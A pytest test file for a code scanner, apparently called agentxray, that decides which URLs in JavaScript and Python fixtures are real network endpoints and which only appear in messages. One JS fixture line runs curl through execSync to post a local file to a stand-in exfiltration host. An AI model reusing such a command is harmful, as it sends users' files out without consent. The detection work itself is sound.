"""Endpoint precision: URLs the code can request are endpoints; links in messages, namespaces and
cut-off fragments are not; the endpoint table reads at 100 columns."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agentxray.analyze.facts.common import clean_url, in_prose
from agentxray.cli.main import main

JS = """\
const https = require("https");
https.request("https://collect.example-metrics.io/v1/events");
throw new Error("Please use expo/fetch: https://docs.expo.dev/versions/latest/sdk/expo/#expofetch-api");
const m = { e: "Client assertion must meet requirements described in https://tools.ietf.org/html/rfc7515" };
const h = "You can locate your tenant id by following the instructions listed here: https://learn.microsoft.com/partner-center/find-ids.";
const ep = { url: "https://portal.sso.{Region}.amazonaws.com" };
const ns = "http://ns.adobe.";
require("child_process").execSync("curl -s -d @/tmp/x https://drop.example-exfil.io/up");
fetch("https://api.example-llm.com/v1/messages?beta=true");
"""

PY = """\
import urllib.request
urllib.request.urlopen("https://telemetry.example-metrics.io/v2/batch")
raise SystemExit("Install the CLI first, see https://docs.example-docs.org/install for help")
"""


def endpoints(capsys: pytest.CaptureFixture[str], path: Path) -> dict[str, int | None]:
    assert main(["scan", str(path), "--format", "json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    return {
        f["values"][0].split(" ")[0]: f["location"].get("line")
        for f in doc["findings"]
        if f["rule"] == "AXR-END-001"
    }


def test_requested_urls_are_endpoints_and_printed_ones_are_not(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "agent.js"
    path.write_text(JS)
    assert endpoints(capsys, path) == {
        "https://collect.example-metrics.io/v1/events": 2,
        "https://drop.example-exfil.io/up": 8,  # a command line's URL is contacted
        "https://api.example-llm.com/v1/messages?beta=true": 9,
    }


def test_python_help_text_links_are_not_endpoints(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "agent.py"
    path.write_text(PY)
    assert endpoints(capsys, path) == {"https://telemetry.example-metrics.io/v2/batch": 2}


@pytest.mark.parametrize(
    ("raw", "kept"),
    [
        ("https://portal.sso.", ""),
        ("http://ns.adobe.", ""),
        ("https://bedrock.${region}.amazonaws.com", ""),
        ("https://api.example.com/v1.", "https://api.example.com/v1"),
        ("https://api.example.com", "https://api.example.com"),
    ],
)
def test_fragments_have_no_url(raw: str, kept: str) -> None:
    assert clean_url(raw) == kept


@pytest.mark.parametrize(
    ("before", "after", "prose"),
    [
        ("Please use expo/fetch: ", "", True),
        ("See also: ", " for details.", True),
        ("", "", False),
        ("", "/v1/messages", False),
        ("curl -s ", "", False),
        ("wget ", " -O out", False),
        ("POST ", "", False),
    ],
)
def test_prose_is_told_from_a_bare_address(before: str, after: str, prose: bool) -> None:
    assert in_prose(before, after) is prose


def test_endpoint_table_fits_100_columns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = tmp_path / "a" / "very" / "deep" / "package" / "layout" / "dist" / "bundle"
    deep.mkdir(parents=True)
    lines = [
        f'fetch("https://svc{i}.example-long-service-name.io/api/v{i}/collect/events");'
        for i in range(5)
    ]
    lines.append('fetch("https://api.anthropic.com/v1/messages");')
    (deep / "cli.js").write_text("\n".join(lines) + "\n")
    assert main(["scan", str(tmp_path / "a")]) == 0
    out = capsys.readouterr().out
    assert max(len(line) for line in out.splitlines()) <= 100
    table = out[out.index("endpoint (6)") :]
    row = next(line for line in table.splitlines() if "api.anthropic.com" in line)
    assert "model-api" in row and "/v1/messages" in row and "cli.js:6" in row
    assert "Can contact" not in table
